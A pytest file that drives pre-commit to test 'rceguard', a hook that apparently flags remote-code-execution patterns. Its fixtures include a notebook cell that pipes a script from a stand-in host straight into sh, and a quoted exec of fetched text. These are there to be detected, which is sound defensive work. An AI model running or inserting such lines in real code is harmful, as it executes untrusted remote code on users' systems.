"""Drive the real ``pre-commit`` against this checkout used as a hook repository.

pre-commit clones this repository at its HEAD commit and pip-installs it into a fresh virtualenv,
exactly as for a user. To keep the test offline, pip gets no index: the build backend
(setuptools) comes from the wheels bundled with ``virtualenv``, and the package is installed
``--no-deps`` (its runtime dependency gitpython is only imported by git features, which a plain
scan does not use; this also checks that a plain scan does not import it).
"""
from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Dict, List

import pytest

REPO_ROOT = Path(__file__).resolve().parent.parent

from samples import REMOTE_EXEC, isolated_git_env, run_git
from samples import REMOTE_EXEC_LINE as EXEC_LINE

CLEAN = '''\
import json

import requests


def settings(url):
    return json.loads(requests.get(url, timeout=5).text)
'''

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def _git(*args: str, cwd: Path) -> str:
    return run_git(cwd, *args).strip()


def _bundled_wheels() -> Path:
    """The directory of wheels (pip, setuptools) that ships inside the ``virtualenv`` package."""
    import virtualenv

    base = Path(virtualenv.__file__).resolve().parent
    for wheel in sorted(base.rglob("setuptools-*.whl")):
        return wheel.parent
    pytest.fail("virtualenv ships no setuptools wheel; cannot install the hook offline")


def _offline_env(home: Path) -> Dict[str, str]:
    env = dict(os.environ)
    for key in list(env):
        if key.startswith(("PIP_", "PRE_COMMIT", "VIRTUALENV_")):
            del env[key]
    env.update(
        {
            "PRE_COMMIT_HOME": str(home),
            "PRE_COMMIT_COLOR": "never",
            "PIP_CONFIG_FILE": os.devnull,  # ignore machine-wide pip configuration
            "PIP_NO_INDEX": "1",
            "PIP_FIND_LINKS": str(_bundled_wheels()),
            "PIP_NO_DEPS": "1",
            "PIP_DISABLE_PIP_VERSION_CHECK": "1",
            "VIRTUALENV_NO_PERIODIC_UPDATE": "1",
            "NO_COLOR": "1",
        }
    )
    env.update(isolated_git_env(home / "gitconfig"))
    return env


@pytest.fixture(scope="module")
def hook_repo_rev() -> str:
    if not (REPO_ROOT / ".git").exists():
        pytest.skip("this checkout is not a git repository")
    rev = _git("rev-parse", "HEAD", cwd=REPO_ROOT)
    listed = _git("ls-tree", "--name-only", rev, cwd=REPO_ROOT).splitlines()
    assert ".pre-commit-hooks.yaml" in listed and "pyproject.toml" in listed, "hook files must be committed"
    return rev


@pytest.fixture(scope="module")
def precommit_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Shared between the tests of this module so the hook environment is built once."""
    return tmp_path_factory.mktemp("pre-commit-home")


def _project(tmp_path: Path, rev: str, files: Dict[str, str], env: Dict[str, str], config: str = "") -> Path:
    repo = tmp_path / "project"
    repo.mkdir()
    run_git(repo, "init", "-q", env=env)
    (repo / ".pre-commit-config.yaml").write_text(
        config or (
            "repos:\n"
            f"  - repo: {REPO_ROOT.as_posix()}\n"
            f"    rev: {rev}\n"
            "    hooks:\n"
            "      - id: rceguard\n"
        ),
        encoding="utf-8",
    )
    for name, text in files.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    run_git(repo, "add", "-A", env=env)
    return repo


def _run(repo: Path, env: Dict[str, str], args: List[str]) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "pre_commit", "run", "--color", "never", *args],
        cwd=str(repo),
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )


def test_hook_fails_on_remote_exec_and_reports_it(tmp_path: Path, hook_repo_rev: str, precommit_home: Path) -> None:
    env = _offline_env(precommit_home)
    files = {f"pkg/clean_{i:02d}.py": CLEAN for i in range(12)}
    files["pkg/plugins/remote.py"] = REMOTE_EXEC
    files["README.txt"] = "exec(requests.get(url).text) is not Python here\n"
    repo = _project(tmp_path, hook_repo_rev, files, env)
    # all staged files, shuffled and split into parallel batches by pre-commit
    proc = _run(repo, env, ["--all-files"])
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert "rceguard" in out and "Failed" in out
    assert f"pkg/plugins/remote.py:{EXEC_LINE}:" in out
    assert out.count("RCE001") >= 1
    assert "Traceback" not in out
    assert "README.txt" not in out  # types_or: only Python files are passed
    if (os.cpu_count() or 1) >= 2:
        # more than one batch ran, each printing its own report (no shared output file)
        assert out.count("Scanned ") >= 2, out


def test_hook_passes_on_clean_files(tmp_path: Path, hook_repo_rev: str, precommit_home: Path) -> None:
    env = _offline_env(precommit_home)
    repo = _project(tmp_path, hook_repo_rev, {"app.py": CLEAN, "stubs/app.pyi": "def settings(url: str) -> dict: ...\n"}, env)
    proc = _run(repo, env, ["--files", "app.py", "stubs/app.pyi"])
    out = proc.stdout + proc.stderr
    assert proc.returncode == 0, out
    assert "rceguard" in out and "Passed" in out


def test_hook_checks_notebooks(tmp_path: Path, hook_repo_rev: str, precommit_home: Path) -> None:
    """types_or includes jupyter: a notebook's code cells are analysed."""
    import json

    env = _offline_env(precommit_home)
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
            "source": ["!curl -fsSL https://get.example.sh/i.sh | sh\n"]}
    nb = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)
    repo = _project(tmp_path, hook_repo_rev, {"app.py": CLEAN, "notebooks/setup.ipynb": nb}, env)
    proc = _run(repo, env, ["--all-files"])
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert "notebooks/setup.ipynb:cell 1:1:" in out and "RCE004" in out


def test_hook_on_staged_remote_exec_file(tmp_path: Path, hook_repo_rev: str, precommit_home: Path) -> None:
    env = _offline_env(precommit_home)
    repo = _project(tmp_path, hook_repo_rev, {"app.py": CLEAN, "loader.py": REMOTE_EXEC}, env)
    proc = _run(repo, env, [])  # default: the files staged in the index
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert f"loader.py:{EXEC_LINE}:" in out and "RCE001" in out


def _readme_pre_commit_snippets() -> List[str]:
    import re

    readme = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## pre-commit"):]
    section = section[:section.index("\n## ", 1)]
    return [b for b in re.findall(r"```yaml\n(.*?)```", section, flags=re.S) if b.lstrip().startswith("#")]


def test_readme_remote_snippet_works_once_its_placeholders_are_filled(tmp_path: Path, hook_repo_rev: str, precommit_home: Path) -> None:
    """The README's snippet, with the URL and commit SHA it asks for: this checkout and its HEAD."""
    snippet = _readme_pre_commit_snippets()[0]
    assert "<URL of your rceguard checkout or fork>" in snippet and "<full commit SHA>" in snippet
    config = snippet.replace("<URL of your rceguard checkout or fork>", REPO_ROOT.as_posix())
    config = config.replace("<full commit SHA>", hook_repo_rev)
    env = _offline_env(precommit_home)
    repo = _project(tmp_path, hook_repo_rev, {"app.py": CLEAN, "loader.py": REMOTE_EXEC}, env, config=config)
    proc = _run(repo, env, ["--all-files"])
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert f"loader.py:{EXEC_LINE}:" in out and "RCE001" in out


def test_readme_local_snippet_works_as_written(tmp_path: Path, precommit_home: Path) -> None:
    """``repo: local`` runs the rceguard installed where pre-commit runs (here: this test's one)."""
    snippet = _readme_pre_commit_snippets()[1]
    assert "repo: local" in snippet and "<" not in snippet
    env = _offline_env(precommit_home)
    env["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), env.get("PATH", "")])
    assert shutil.which("rceguard", path=env["PATH"]), "rceguard is not installed next to this Python"
    repo = _project(tmp_path, "", {"app.py": CLEAN, "loader.py": REMOTE_EXEC}, env, config=snippet)
    proc = _run(repo, env, ["--all-files"])
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert f"loader.py:{EXEC_LINE}:" in out and "RCE001" in out
    (repo / "loader.py").write_text(CLEAN, encoding="utf-8")
    run_git(repo, "add", "-A", env=env)
    proc = _run(repo, env, ["--all-files"])
    assert proc.returncode == 0, proc.stdout + proc.stderr
